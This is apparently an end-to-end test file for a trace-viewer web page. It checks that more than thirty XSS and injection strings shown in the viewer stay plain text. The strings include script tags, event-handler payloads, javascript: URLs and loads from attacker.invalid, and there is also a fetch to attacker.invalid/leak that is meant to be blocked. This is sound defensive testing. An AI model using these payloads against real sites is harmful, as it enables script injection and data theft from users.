"""A trace that wants to take the page over: whatever stands in it is only ever text."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from page_support import Tab, chromium, needs_browser, tab

import memtrace
from memtrace.viewing.opening import view

pytestmark = [pytest.mark.e2e, needs_browser]

OUT = "http://attacker.invalid"
HOSTILE = (
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg/onload=window.owned=1>",
    "\"><script src=//attacker.invalid/a.js></script>",
    "'><img src=http://attacker.invalid/p.png>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.owned=1</script>'>",
    "javascript:alert(document.cookie)",
    "<a href='javascript:window.owned=1'>click me</a>",
    "<base href=http://attacker.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid'>",
    "<link rel=stylesheet href=http://attacker.invalid/a.css>",
    "<style>@import url(http://attacker.invalid/a.css);body{display:none}</style>",
    "<object data=http://attacker.invalid/x></object><embed src=//attacker.invalid/y>",
    "<form action=http://attacker.invalid><input name=q autofocus onfocus=window.owned=1></form>",
    "<details open ontoggle=window.owned=1>",
    "<video><source onerror=window.owned=1></video>",
    "<math><mtext></mtext><script>window.owned=1</script></math>",
    "<template><script>window.owned=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.owned=1>\">",
    "{{constructor.constructor('window.owned=1')()}}",
    "${window.owned=1}",
    "`;window.owned=1;//",
    "\\u003cscript\\u003ewindow.owned=1\\u003c/script\\u003e",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "]]><script>window.owned=1</script><![CDATA[",
    "__proto__",
    "#answer=var-1&op=op-1&var=<script>window.owned=1</script>",
    "data:text/html,<script>window.owned=1</script>",
    "\u202eright-to-left\u0000\u0007\u001b]0;title\u0007",
    "' onmouseover='window.owned=1' style='background:url(//attacker.invalid/b)",
)  # fmt: skip
PARSERS = (
    "innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function",
    "DOMParser", "createContextualFragment",
)  # fmt: skip
"""What would make markup of text."""
_FOREIGN = """() => [...document.querySelectorAll("*")].filter((one) => {
    const name = one.localName;
    if (["iframe", "object", "embed", "base", "img", "video", "audio", "math", "template", "style",
         "foreignObject", "image", "use", "animate", "set"].includes(name)) return true;
    if (name === "script") return one.src !== location.origin + "/assets/app.js";
    if (name === "link") return !["data:,", "assets/"].some((own) =>
        one.getAttribute("href").startsWith(own));
    if (name === "meta") return one.httpEquiv !== "";
    return [...one.attributes].some(({ name, value }) =>
        name.startsWith("on") || /^\\s*(javascript|data|https?):/i.test(value)
            && ["href", "src", "action", "formaction", "xlink:href"].includes(name)
            && !value.startsWith(location.origin));
}).map((one) => one.outerHTML.slice(0, 200))"""
"""Elements and attributes that the page itself never makes."""


def hostile_trace(path: Path) -> tuple[Path, str]:
    """Every text of a trace is one of the strings: names, kinds, items, prompts, errors."""
    answer = ""
    about = {
        "name": HOSTILE[1],
        "parameters": {HOSTILE[2]: HOSTILE[3]},
        "model": {"name": HOSTILE[4]},
    }
    with memtrace.record(path, metadata={f"system {HOSTILE[0]}/c1": about}):
        for index, text in enumerate(HOSTILE):
            other = HOSTILE[(index + 7) % len(HOSTILE)]
            said = memtrace.variable(f"{text}\n8439", kind="message", name=text)
            prompt = memtrace.variable(f"{text} {{question}}", kind="prompt", name=text)
            with memtrace.step(text, kind=text, inputs={text: said, "prompt": prompt}) as op:
                item = op.output(text, f"{text} 8439", kind="memory_item", item=text)
                op.parameter(text, other)
                op.note("place", [f"{HOSTILE[0]}/c1", text])
                op.note(text, {text: other})
            with memtrace.step(other, kind="update", inputs={"item": item}) as op:
                op.output("item", f"{other} {text}", kind="memory_item", item=text)
                op.failed(text, text)
            question = memtrace.variable(f"{text}?", kind="question", name=text)
            told = {"category": text, "evidence": [text]}
            gold = memtrace.variable("8439", kind="gold", name=text, metadata=told)
            inputs = {"question": question, "context": item, "prompt": prompt}
            with memtrace.step(text, kind="answer", inputs=inputs) as op:
                op.usage(model=text)
                op.output("request", [{"role": text, "content": text}], kind="prompt")
                made = op.output("answer", text, kind="answer")
            inputs = {"question": question, "answer": made, "gold": gold}
            with memtrace.step(other, kind="judge", inputs=inputs) as op:
                op.output("verdict", {"satisfied": False, "reason": text}, kind="verdict")
            answer = made.id or ""
    return path, answer


@pytest.fixture(scope="module")
def opened() -> Iterator[Any]:
    with chromium() as running:
        yield running


@pytest.fixture(scope="module")
def trace(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    return hostile_trace(tmp_path_factory.mktemp("hostile") / "<img src=x onerror=alert(1)>.db")


@pytest.fixture(scope="module")
def url(trace: tuple[Path, str]) -> Iterator[str]:
    with view(trace[0], others=[trace[0]], annotate=["ana"]) as page:
        yield page.url


def harmless(seen: Tab) -> None:
    """Nothing ran, nothing popped up, nothing strange stands in the page or was asked for."""
    assert seen.page.evaluate("window.owned") is None
    assert seen.page.evaluate("document.title").endswith("· memtrace")
    assert seen.page.evaluate(_FOREIGN) == []
    assert seen.dialogs == []
    assert seen.strangers() == []
    assert [one for one in seen.complaints if "status of 40" not in one] == []


def test_there_are_more_than_thirty_strings() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 30


def test_lists_show_them_as_text(opened: Any, url: str) -> None:
    with tab(opened, url) as seen:
        seen.see("a.question")
        assert "<script>window.owned=1</script>?" in seen.text("a.question .title")
        for place in ("#timeline", "#memory", "#annotations", "#compare", "#whatif", "#questions"):
            seen.go(place)
            seen.page.wait_for_timeout(150)
            harmless(seen)
        seen.page.locator(".list").evaluate("list => { list.scrollTop = 1e6 }")
        seen.page.wait_for_timeout(150)
        harmless(seen)


@pytest.mark.slow
def test_every_answer_operation_variable_and_item_shows_them_as_text(
    opened: Any, url: str, trace: tuple[Path, str]
) -> None:
    with memtrace.open(trace[0]) as recorded:
        answers = [one.id for one in recorded.variables(kind="answer")]
        operations = [one.id for one in recorded.operations()]
        variables = [one.id for one in recorded.variables()]
    assert len(answers) == len(HOSTILE)
    with tab(opened, url) as seen:
        for answer in answers:
            seen.go(f"#answer={answer}")
            seen.see("svg.lineage a")
        harmless(seen)
        for sort, ids in (("op", operations), ("var", variables)):
            for one in ids:
                seen.go(f"#timeline&{sort}={one}")
                seen.see(f"#panel header .id:text-is('{one}')")
            harmless(seen)
        for text in HOSTILE:
            seen.go(f"#memory&item={quote(text, safe='')}")
            seen.see("#panel .version")
            seen.see("#panel .diff")
        harmless(seen)


def test_the_way_of_a_failure_shows_them_as_text(
    opened: Any, url: str, trace: tuple[Path, str]
) -> None:
    with tab(opened, url) as seen:
        seen.go(f"#answer={trace[1]}")
        seen.see("svg.lineage a.box").click()
        seen.see("#panel article")
        harmless(seen)
        seen.go(f"#answer={trace[1]}&note={trace[1]}")
        seen.see(".annotate")
        seen.go(f"#whatif&answer={trace[1]}")
        seen.see("#view h2")
        harmless(seen)


@pytest.mark.slow
def test_addresses_and_fields_are_text_too(opened: Any, url: str) -> None:
    with tab(opened, url) as seen:
        for text in HOSTILE:
            hidden = quote(text, safe="")
            for place in ("search=", "answer=", "timeline&op=", "", f"{hidden}="):
                seen.go(f"#{place}{hidden}")
        seen.page.wait_for_timeout(300)
        harmless(seen)
        seen.go("#search=")
        for text in HOSTILE[:6]:
            seen.page.get_by_label("Search the trace").fill(text)
            seen.page.wait_for_timeout(320)
        seen.see(".hit")
        harmless(seen)


def test_what_steers_unseen_is_seen(opened: Any, url: str, trace: tuple[Path, str]) -> None:
    with memtrace.open(trace[0]) as recorded:
        turned = next(
            one.id for one in recorded.variables(kind="message") if "\u202e" in str(one.name)
        )
    with tab(opened, url) as seen:
        seen.go(f"#timeline&var={turned}")
        text = str(seen.see("#panel pre.value").text_content())
        assert "⟨U+202E⟩right-to-left␀␇␛" in text


def test_the_page_runs_no_script_but_its_own(opened: Any, url: str) -> None:
    with tab(opened, url) as seen:
        seen.see("a.question")
        blocked = seen.page.evaluate(
            """() => new Promise((done) => {
                addEventListener("securitypolicyviolation", (one) => done(one.violatedDirective));
                const script = document.createElement("script");
                script.textContent = "window.owned = 1";
                document.body.append(script);
            })"""
        )
        assert blocked.startswith("script-src")
        assert seen.page.evaluate("window.owned") is None
        refused = seen.page.evaluate(f"fetch('{OUT}/leak').then(() => 'sent', () => 'refused')")
        assert refused == "refused"
        shipped = Path(memtrace.__file__).parent / "viewing" / "assets"
        words = "".join(one.read_text(encoding="utf-8") for one in shipped.glob("*.js"))
        assert [word for word in PARSERS if word in words] == []
